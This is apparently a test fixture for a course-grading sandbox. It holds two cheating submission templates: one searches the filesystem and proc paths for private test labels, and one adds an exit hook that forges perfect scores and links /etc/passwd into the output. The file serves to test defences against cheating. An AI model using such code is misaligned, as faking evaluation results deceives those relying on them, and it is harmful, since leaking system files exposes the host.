"""Submissions that try to cheat a course server (issue 30), as source templates."""

# A submission that looks for the private test masks every way it can, and says
# in its output what it tried (issue 30). Without the sandbox it finds them.
PEEK = """
import glob, socket
import numpy as np, nibabel as nib

DEPLOYMENT, PORT = {deployment!r}, {port!r}
MASK = "_label-L_desc-T1lesion_mask.nii.gz"


def read(route, path):
    try:
        mask = np.asarray(nib.load(str(path)).dataobj) > 0
    except Exception as error:
        print(f"PEEK {{route}}: refused {{path}}: {{type(error).__name__}}", flush=True)
        return None
    print(f"PEEK {{route}}: read {{path}}", flush=True)
    return mask


class Peek:
    def fit(self, X, y):
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=5).close()
            print("PEEK tcp: connected", flush=True)
        except OSError as error:
            print(f"PEEK tcp: refused: {{error!r}}", flush=True)
        return self

    def predict(self, X):
        out = np.zeros(X.shape, bool)
        for i, s in enumerate(X.subjects):
            name = s.subject_id + "_"
            routes = [("mask_path", s.mask_path)] if s.mask_path else []
            routes.append(("t1w_path", str(s.t1w_path).replace("_T1w.nii.gz", MASK)))
            for pattern, route in [
                (f"{{DEPLOYMENT}}/**/{{name}}*{{MASK}}", "glob"),
                (f"/proc/self/cwd/**/{{name}}*{{MASK}}", "proc_cwd"),
            ]:
                found = glob.glob(pattern, recursive=True)
                print(f"PEEK {{route}}: {{len(found)}} found for {{s.subject_id}}")
                routes += [(route, path) for path in found]
            for route, path in routes:
                mask = read(route, path)
                if mask is not None:
                    out[i] = mask
                    break
        return out


def get_estimator():
    return Peek()
"""

# The starting kit, and, when ramp-test exits, perfect scores written over its
# score files, and a link to a host file in its output.
FORGE = """

import atexit as _atexit
import os as _os
from pathlib import Path as _Path

_OUTPUT = _Path(__file__).resolve().parent / "training_output"
_ROW = "1.0,1.0,0.0,0.0"


def _forge():
    header = "dice,lesion_f1,volume_diff_ml,lesion_count_diff"
    for fold in _OUTPUT.glob("fold_*"):
        rows = [f"{step},{_ROW},0.1" for step in ("train", "valid", "test")]
        (fold / "scores.csv").write_text("\\n".join([f"score,{header},time", *rows]))
    rows = [f"{step},{n},{_ROW}" for step in ("valid", "test") for n in range(5)]
    text = "\\n".join([f"step,n_bag,{header}", *rows])
    (_OUTPUT / "bagged_scores.csv").write_text(text)
    link = _OUTPUT / "fold_0" / "stolen"
    if not link.is_symlink():  # estimator.py is imported once per fold
        _os.symlink("/etc/passwd", link)
    print("FORGED", flush=True)


_atexit.register(_forge)
"""
